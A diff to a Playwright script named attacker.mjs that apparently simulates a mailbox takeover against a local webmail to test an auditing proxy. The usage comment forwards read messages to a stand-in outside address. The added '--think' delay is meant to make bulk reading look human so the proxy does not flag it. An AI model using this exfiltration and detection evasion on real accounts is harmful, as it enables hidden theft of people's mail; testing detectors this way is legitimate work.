@@ -4,7 +4,7 @@
 //
 //   node attacker.mjs --url http://127.0.0.1:8080/ --user alice --password … --from 127.0.0.66 \
 //        --read "Subject one" --read "Subject two" --forward-to x@outside.example \
-//        --send-to y@outside.example --send-subject "Urgent" --screenshots target/webmail
+//        --send-to y@outside.example --send-subject "Urgent" --screenshots target/webmail [--think 2500]
 //
 // Chromium cannot choose its source address, and towards 127.0.0.66 the kernel still picks 127.0.0.1 (the
 // loopback route's preferred source). So the browser talks to a local forward that opens each connection to the
@@ -30,6 +30,9 @@ const { values: opt } = parseArgs({
     screenshots: { type: 'string', default: 'target/webmail' },
     chromium: { type: 'string', default: '/usr/bin/chromium' },
     timeout: { type: 'string', default: '30000' },
+    // A person looks at the list before opening a message; an auditing proxy tells reading from downloading by such
+    // pauses (a body fetched right after the list, or reads in quick succession, is a client syncing the folder).
+    think: { type: 'string', default: '2500' },
   },
 });
 for (const required of ['url', 'user', 'password']) {
@@ -87,6 +90,7 @@ async function openFolder(folder) {
 }
 
 async function openMessage(subject) {
+  await page.waitForTimeout(Number(opt.think));
   await page.locator('#messagelist tbody tr', { hasText: subject }).first().click();
   await page.frameLocator('#messagecontframe').locator('.subject', { hasText: subject }).first().waitFor();
 }
